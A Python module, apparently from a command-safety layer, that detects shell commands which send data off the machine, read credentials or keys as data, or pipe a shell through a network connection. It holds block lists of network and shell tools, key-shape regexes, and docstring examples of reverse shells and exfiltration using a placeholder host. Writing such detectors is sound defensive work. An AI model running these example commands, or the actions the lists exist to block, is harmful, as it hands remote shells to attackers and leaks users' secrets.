"""Which commands talk to other machines, and which read keys or credentials as data.

Why: two harms need both halves, each harmless alone. Reading `~/.ssh/id_ed25519` is fine
and `curl` is fine, but in one command line they send the key away; `nc host 4444` is fine
and `sh` is fine, but piped together they hand a shell to whoever listens. The deny list
collects both halves over the whole line (nested code included) with these helpers. A key
named as an identity (`ssh -i ~/.ssh/id_ed25519`, `curl --key k.pem`) is used, not sent.
"""

from __future__ import annotations

import re
from itertools import pairwise

from app.terminal import risky_paths as paths
from app.terminal.command_words import SHELLS, resolve, shell_code
from app.terminal.git_options import git_subcommand
from app.terminal.pipe_checks import name_args
from app.terminal.shell_syntax import Command

SENDERS = frozenset({
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "sftp", "ftp", "lftp",
    "ssh", "mail", "mailx", "sendmail", "mutt", "swaks", "http", "https", "xh", "httpie",
    "aria2c", "rclone", "s3cmd", "gsutil", "dig", "nslookup", "host", "drill", "openssl",
    "gh", "aws", "smbclient", "tftp", "rsync", "sshpass", "torify", "proxychains",
    "proxychains4", "websocat", "cryptcat", "pwncat", "nmap", "ping", "http.server",
    "uploadserver", "updog",
})
# Senders that carry a file's content, not only a name looked up or a probe.
FILE_SENDERS = SENDERS - {"dig", "nslookup", "host", "drill", "ping", "nmap", "ssh", "gh", "aws",
                          "http.server", "uploadserver", "updog"}
# Programs that can carry a shell's input and output to another machine.
_CONNECTORS = frozenset({"ztcp", "nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat",
                         "pwncat", "websocat", "ssh", "sshpass"})
# Options whose value is a key or credential used to authenticate, not data sent.
_IDENTITY_OPTIONS = frozenset({
    "-i", "--identity", "--key", "--cert", "-E", "--cacert", "--capath", "--netrc-file",
    "-F", "--private-key", "--key-file", "--keyfile", "--certfile", "--cert-file",
    "--kubeconfig", "--config", "-e", "--rsh", "--ssh-key", "--credentials-file",
    "--shared-credentials-file", "-K", "--identity-file",
})
# Programs that only look at a key file (permissions, fingerprint, agent) without reading
# its content out.
_KEY_HANDLERS = frozenset({
    "ssh-add", "ssh-keygen", "chmod", "chown", "chgrp", "ls", "stat", "test", "[", "[[",
    "mkdir", "file", "touch", "ssh-copy-id", "realpath", "readlink", "du", "namei", "getfacl",
    "setfacl", "restorecon", "chattr", "lsattr",
})

# A project's file of tokens and passwords (`.env`, `.env.production`, `*.env` in a search),
# not the template shared with it (`.env.example`).
_DOTENV = re.compile(r"(?:^|[/=@*])\.env(?:\.(?!(?:example|sample|template|dist|defaults?|tpl)$)"
                     r"[\w-]+)?$")
# Search patterns shaped like a cloud key, a token or a private key: text found by them is
# secrets collected from wherever the search looked.
_KEY_SHAPES = re.compile(r"\b(?:AKIA|ASIA)|ghp_|gho_|github_pat_|glpat-|xox[abprs]-|sk_live_|AIza"
                         r"|PRIVATE KEY|(?i:aws_secret_access_key)")
# Programs that load a `.env` into the environment of what they run, not send it.
_DOTENV_LOADERS = frozenset({"source", ".", "dotenv", "env-cmd", "direnv", "docker", "podman",
                             "uv", "poetry", "pipenv"})
_SEARCHERS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "zgrep", "ugrep", "git"})

# Password stores and keyrings printing a secret: `secret-tool lookup`, `pass show`.
_KEYRING_READS = frozenset({("secret-tool", ("lookup",)), ("secret-tool", ("search",)),
                            ("pass", ("show",)), ("kwallet-query", ("-r",)),
                            ("gopass", ("show",)), ("keepassxc-cli", ("export",)),
                            ("keepassxc-cli", ("show",)), ("bw", ("get",)), ("bw", ("export",)),
                            ("op", ("read",)), ("lpass", ("show",)), ("rbw", ("get",))})
_HTTP_IDENTITY = frozenset({"--key", "--cert", "-E", "--cacert", "--capath", "--netrc-file",
                            "-K", "--config", "--certificate", "--private-key", "--ca-certificate"})


# Settings names that hold a token or password (`credential.helper`, `http.extraheader`).
_SECRET_SETTING = re.compile(r"(?i)credential|token|passw|secret|extraheader|auth")
_CONTAINER_TOOLS = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc"})


def _stored_secrets(name: str, args: list[str]) -> str | None:
    """Secrets a tool prints from its own store: git's settings listed or looked up by a
    credential's name, a container's environment (`docker inspect` — whole, or its
    `.Config.Env` — and `env` run inside it), a process's `/proc/PID/environ`."""
    if any(re.fullmatch(r"/proc/(?:\d+|self|\$\$?\w*)/environ", arg) for arg in args):
        return "a process's environment variables (tokens, keys)"
    words = git_subcommand(args) if name == "git" else []
    if words[:1] == ["config"] and (
            {"--list", "-l"} & set(words) or any(
                flag in ("--get", "--get-all", "--get-regexp") and _SECRET_SETTING.search(key)
                for flag, key in pairwise(words))):
        return "git's settings, with the tokens and passwords stored in them"
    if name not in _CONTAINER_TOOLS:
        return None
    operands = [arg for arg in args if not arg.startswith("-")]
    formats = [value for flag, value in pairwise(args) if flag in ("-f", "--format")] + [
        arg.partition("=")[2] for arg in args if arg.startswith("--format=")]
    if "inspect" in operands[:2] and name != "kubectl" and (
            not formats or any(".Env" in value for value in formats)):
        return f"the environment variables of containers ({name} inspect)"
    if "exec" in operands[:2] and {"env", "printenv"} & set(operands[2:]):
        return f"a container's environment variables ({name} exec … env)"
    return None


def secret_data(name: str, args: list[str]) -> list[str]:
    """The key or credential paths that this command reads as data (to print, copy, pack
    or send), skipping those given as an identity (`-i key`) and key-handling programs."""
    if name in _KEY_HANDLERS:
        return []
    if name == "gpg" and {"--export-secret-keys", "--export-secret-subkeys"} & set(args):
        return ["gpg secret keys"]
    if name in _SEARCHERS and (name != "git" or git_subcommand(args)[:1] == ["grep"]) and (
            shapes := [arg for arg in args if _KEY_SHAPES.search(arg)]):
        return [f"keys and tokens searched for by their shape ({shapes[0]})"]
    if name == "git" and git_subcommand(args)[:2] == ["credential", "fill"]:
        return ["the passwords git has stored (git credential fill)"]
    if stored := _stored_secrets(name, args):
        return [stored]
    if (name, tuple(args[:1])) in _KEYRING_READS or (name == "security" and args[:1] and re.match(
            r"find-(?:generic|internet)-password$", args[0]) and "-w" in args):
        return [f"a stored password ({name} {args[0]})"]
    identity = _HTTP_IDENTITY if name in ("curl", "wget", "http", "https", "xh") \
        else _IDENTITY_OPTIONS
    found = []
    skip = False
    for arg in args:
        if skip:
            skip = False
            continue
        option = arg.partition("=")[0]
        if arg in identity or (option in identity and "=" in arg) or \
                re.match(r"-o\s*(?:IdentityFile|CertificateFile|UserKnownHostsFile)", arg):
            skip = "=" not in arg and arg != option + "="
            continue
        if arg == "-o" or option.lower() in ("identityfile", "certificatefile",
                                              "identityagent", "userknownhostsfile"):
            continue
        value = re.split(r"[=@:]", arg, maxsplit=1)[-1].lstrip("@")
        if paths.mentions_secret(arg.lstrip("@<")) or paths.browser_data(arg) or \
                paths.is_history_file(arg.lstrip("@<")) or (
                name not in _DOTENV_LOADERS and _DOTENV.search(arg)) or (
                re.search(r"[=@:]\s*[~/$]", arg) and paths.mentions_secret(value)):
            found.append(arg)
    return found


def secret_redirects(sources: list[str]) -> list[str]:
    """Input redirections (`< ~/.ssh/id_rsa`) that feed a key or credential to a command."""
    return [source for source in sources if paths.mentions_secret(source)]


def is_sender(name: str, args: list[str]) -> bool:
    """True when the command sends data to another machine."""
    if name == "rsync":
        return any(re.match(r"^(?:[\w.@-]+:|rsync://)", a) for a in args)
    if name in ("aws", "gsutil"):
        return any(a in ("cp", "sync", "mv") for a in args)
    if name == "gh":
        return "gist" in args or "api" in args
    if name == "openssl":
        return "s_client" in args
    return name in SENDERS


def reads_stdin_shell(name: str, args: list[str], heredoc: bool) -> bool:
    """A shell that takes its commands from its input (`sh`, `bash -i`, `sh -s`)."""
    if name not in SHELLS or heredoc:
        return False
    code, reads_stdin, _script = shell_code(args)
    return code is None and reads_stdin


def connector(name: str, args: list[str]) -> bool:
    """True for programs that can join a shell to a network connection."""
    if name == "openssl":
        return "s_client" in args
    return name in _CONNECTORS


def shell_on_connection(commands: list[Command]) -> bool:
    """`ztcp host 4444 && zsh >&$REPLY 0>&$REPLY`: a connection is opened and a shell's
    input or output is pointed at an extra file descriptor (where the connection is)."""
    if not any(connector(*name_args(c)) for c in commands):
        return False
    return any(name_args(command)[0] in SHELLS and any(
        r.op in (">&", "<&") and r.target.text not in ("0", "1", "2", "-")
        for r in command.redirects) for command in commands)


def loopback(target: str) -> bool:
    """`/dev/tcp/127.0.0.1/6379`, `/dev/tcp/localhost/80`: this machine talking to itself."""
    host = [*target.split("/"), "", "", ""][3]
    return host == "localhost" or host.startswith("127.") or host in ("::1", "[::1]")


def _descriptor_users(commands: list[Command]) -> list[str]:
    """The programs that read or write an extra descriptor (`>&3`, `<&3`)."""
    return [name_args(c)[0] for c in commands for r in c.redirects
            if r.op in (">&", "<&") and r.target.text.isdigit() and int(r.target.text) > 2]


def shell_reads(commands: list[Command]) -> bool:
    """After `exec 3<>/dev/tcp/…`, a shell (or eval, source, a hidden program) uses the extra
    descriptor (`sh <&3 >&3`) or reads its standard input: what the connection sends runs."""
    return any(name in SHELLS or name in ("", "eval", "exec", "source", ".") or "$" in name
               for name in _descriptor_users(commands)) or any(
        reads_stdin_shell(*name_args(c), c.stdin_text is not None) for c in commands)


def client_only(commands: list[Command]) -> bool:
    """After `exec 3<>/dev/tcp/host/80`, only programs that are not shells read or write the
    extra descriptor (`printf 'HEAD /' >&3; cat <&3`) and no shell reads what comes back:
    a client's request, no shell on it."""
    return bool(_descriptor_users(commands)) and not shell_reads(commands)


def remote_shell_pipe(commands: list[Command]) -> bool:
    """`nc host 4444 | sh`, `mkfifo f; cat f | sh -i | nc host 4444 > f`: a shell whose
    input or output flows through a network connection."""
    kinds = {id(command): _pipe_kind(command) for command in commands}
    if "shell" not in kinds.values():
        return False
    for command in commands:
        upstream = {kinds.get(id(c)) for c in command.upstream}
        mine = kinds[id(command)]
        if (mine == "shell" and "net" in upstream) or (
                mine in ("net", "sender") and "shell" in upstream):
            return True
    return False


def _pipe_kind(command: Command) -> str:
    resolved = resolve([w.text for w in command.words])
    if reads_stdin_shell(resolved.name, resolved.args, command.stdin_text is not None):
        return "shell"
    if connector(resolved.name, resolved.args):
        return "net"
    # Any program that talks to the network carries what a shell prints (`sh -i | curl -T -
    # URL`): the shell's output sent away. (A download fed to a shell is judged elsewhere.)
    return "sender" if resolved.name in SENDERS else ""
